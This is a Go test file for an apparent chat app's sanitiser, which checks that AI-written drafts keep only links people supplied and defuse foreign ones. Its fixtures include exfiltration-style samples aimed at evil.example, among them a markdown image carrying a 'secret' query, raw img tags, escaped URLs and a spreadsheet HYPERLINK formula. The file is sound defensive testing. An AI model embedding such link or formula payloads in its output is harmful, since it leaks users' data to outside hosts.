package analysis

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/roundtable-chat/app/roundtable/thread"
)

// TestDraftsLeadWherePeoplePointed shows that whatever an inquirer writes, its links
// are those that people gave (NFR-103, I12): in every kind of artifact, and in
// what goes into the thread and on to an elaboration.
func TestDraftsLeadWherePeoplePointed(t *testing.T) {
	targets := []Target{{"a.md", PartSection, "One", ""}, {"s.json", PartList, "stories", ""}, {"m.csv", PartRows, "id, name", ""}}
	given := thread.Links{"https://shop.example/plan": true}
	tests := []struct{ name, file, content, want string }{
		{"a given link", "a.md", "See [it](https://shop.example/plan).", "See [it](https://shop.example/plan)."},
		{"a foreign image", "a.md", "Fine ![x](https://evil.example/?q=secret)", "Fine ![x] (https[:]//evil.example/?q=secret)"},
		{"HTML", "a.md", "<img src=x>", "< img src=x>"},
		{"a given link in a list", "s.json", `[{"at":"https://shop.example/plan", "n": 1.50}]`, `[{"at":"https://shop.example/plan", "n": 1.50}]`},
		{"a foreign link in a list", "s.json", `[{"id": 1, "at":"https://evil.example/a\nb"}]`, `[{"id": 1, "at":"https[:]//evil.example/a\nb"}]`},
		{"an escaped one", "s.json", `[{"at":"\u0068ttps:\/\/evil.example","b":"\u003cimg src=x>"}]`, `[{"at":"https[:]//evil.example","b":"< img src=x>"}]`},
		{"one in a name", "s.json", `[{"https://evil.example":true}]`, `[{"https[:]//evil.example":true}]`},
		{"a given link in a row", "m.csv", "R1,https://shop.example/plan\n", "R1,https://shop.example/plan\n"},
		{"two links in a row", "m.csv", "https://shop.example/plan,https://evil.example\n", "https://shop.example/plan,https[:]//evil.example\n"},
		{"a formula", "m.csv", "R1,\"=HYPERLINK(\"\"https://evil.example\"\")\"\n", "R1,\"=HYPERLINK(\"\"https[:]//evil.example\"\")\"\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			kept, fault := checkParts([]Part{{File: tt.file, Content: tt.content}}, targets, given)
			if fault != "" || len(kept) != 1 {
				t.Fatalf("kept %v, fault %q", kept, fault)
			}
			if got := kept[0].Content; got != tt.want {
				t.Errorf("got  %s\nwant %s", got, tt.want)
			}
			if again := kept[0].tamed(given); again != kept[0] {
				t.Errorf("tamed twice: %s", again.Content)
			}
		})
	}
}

// TestWordsOfADraftLeadWherePeoplePointed shows the same of what a draft says beside
// its parts, and of a persona's words that are written down plainly (NFR-103).
func TestWordsOfADraftLeadWherePeoplePointed(t *testing.T) {
	a := beingWritten(false)
	a.State, a.Writing, a.Purpose, a.Step.From = StateValidating, nil, ForFeedback, 1
	a.Ask, a.Turns = &Ask{Kind: AskCompose, Key: "A1/c", Attempt: 1}, 2
	a.Step.Targets = []Target{{"a.md", PartSection, "One", ""}}
	transcript := thread.ReadTranscript([]thread.Entry{
		{Kind: thread.EntryTurn, Turn: 1, Persona: testCast()[0].Key, Text: "Like https://evil.example?", TS: "1"},
		{Kind: thread.EntryTurn, Turn: 2, Person: &thread.Person{ID: "U1", Name: "Priya"}, TS: "2", Text: "<https://shop.example/plan>"},
		{Kind: thread.EntryMark, Mark: &thread.Mark{Kind: thread.MarkDecision, By: person("Priya"), TS: "1"}},
	})
	for _, draft := range []*Draft{
		{Point: "https://evil.example is it", Summary: "See https://evil.example", Parts: []Part{{File: "a.md", Content: "x"}}},
		nil, // as it was said
	} {
		a.Ask.Plain = draft == nil
		r := Step(a, Input{ID: "d", At: time.Unix(1, 0), Event: Drafted{Effect: "A1/c", Draft: draft, Transcript: transcript}})
		said := r.Analysis.Step.Summary
		for _, e := range r.Effects {
			if post, ok := e.(Post); ok {
				said += post.Message.Text
			}
			if write, ok := e.(Write); ok {
				said += write.Parts[0].Content
			}
		}
		if strings.Contains(said, "https://evil") || !strings.Contains(said, "https[:]//evil") {
			t.Errorf("said %s", said)
		}
	}
}

// TestPlainPartsFit shows that what was said in a long step can be stored (I1,
// I10): everybody's words have a share, and the document says that there is more.
func TestPlainPartsFit(t *testing.T) {
	talk := []saying{{"Maya", "Why?"}}
	for range 14 { // of Slack's greatest length
		talk = append(talk, saying{"Tom", strings.Repeat("<é> ", 10_000)})
	}
	targets := []Target{{"a.md", PartSection, "One", ""}, {"b.md", PartSection, "Two", ""}}
	a := beingWritten(false)
	a.Writing.Parts = plainParts(targets, talk, "A Step")
	state, err := Encode(a)
	if err != nil || len(state) > 1<<19 {
		t.Errorf("a state of %d bytes, %v", len(state), err)
	}
	text := a.Writing.Parts[1].Content
	if strings.Count(text, " …\n") != 14 || !strings.Contains(text, "stands in the thread as a whole") || !strings.Contains(text, "- **Maya**: Why?\n") {
		t.Errorf("got %q … %q", text[:100], text[len(text)-100:])
	}
	few := plainParts(targets, talk[:1], "A Step")
	if diff := cmp.Diff("As it was said:\n\n- **Maya**: Why?\n", few[0].Content); diff != "" {
		t.Error(diff)
	}
}

// TestADraftIsBounded keeps what fits of a draft that is too long as a whole.
func TestADraftIsBounded(t *testing.T) {
	part := Part{File: "a.md", Content: strings.Repeat("x", largestPart)}
	kept, fault := checkParts([]Part{part, part, part}, []Target{{"a.md", PartSection, "One", ""}}, nil)
	if len(kept) != 2 || !strings.Contains(fault, "too long together") {
		t.Errorf("kept %d, fault %q", len(kept), fault)
	}
}
